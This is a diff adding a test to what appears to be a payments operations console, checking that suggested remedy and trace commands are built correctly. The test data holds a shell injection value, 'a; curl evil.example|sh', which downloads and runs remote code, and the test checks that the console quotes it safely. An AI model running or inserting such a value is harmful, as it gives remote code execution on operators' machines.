@@ -1,7 +1,9 @@
 import { expect, test } from 'bun:test'
 import postgres from 'postgres'
 import { startScratchPostgres } from '#test/support/scratch-postgres'
+import { openBreaks } from '../books/judge'
 import { groupIdOf, listDeadLetters } from '../cli/dead-letters/letters'
+import { remedyFor } from '../cli/remedy'
 import { readRows } from '../health/rows'
 import { readAttention } from './exceptions'
 
@@ -23,6 +25,26 @@ test('the console groups dead letters as `ops dead-letters` does, and says why a
     { kind: 'frozen', id: '0x1', says: 'owes 0.000000 AUSD, frozen on chain' },
     { kind: 'identity', id: '0x2', says: 'verified, but its flag is not on the chain: reverted' },
   ])
+  await sql.end({ timeout: 1 })
+})
+
+test('the console shows the command of `ops reconcile` for a break, and a command that quotes any other item', async () => {
+  await using server = await startScratchPostgres()
+  const sql = postgres(server.adminUrl, { max: 2, onnotice: () => {} })
+  const transfer = `0x${'1'.repeat(64)}:3`
+  await sql`
+    insert into books.breaks (rule, item, asset, amount, about, found_at)
+    values ('treasury_moved', ${transfer}, 'AUSD', 5, 'why', now() - interval '1 hour')`
+  await sql`
+    insert into payments.anomalies (id, kind, account, object)
+    values ('1', 'status_unknown', 'ID', 'a; curl evil.example|sh')`
+  const { exceptions } = await readAttention(sql)
+  const [broken] = await openBreaks(sql)
+  expect(exceptions.map(({ kind, command }) => [kind, command]).sort()).toEqual([
+    ['anomaly', "bun run ops trace 'a; curl evil.example|sh'"],
+    ['break', remedyFor(broken!)],
+  ])
+  expect(remedyFor(broken!)).toBe(`bun run ops unexplained return ${transfer} --reason <why>`)
   await sql.end({ timeout: 1 })
 })
 
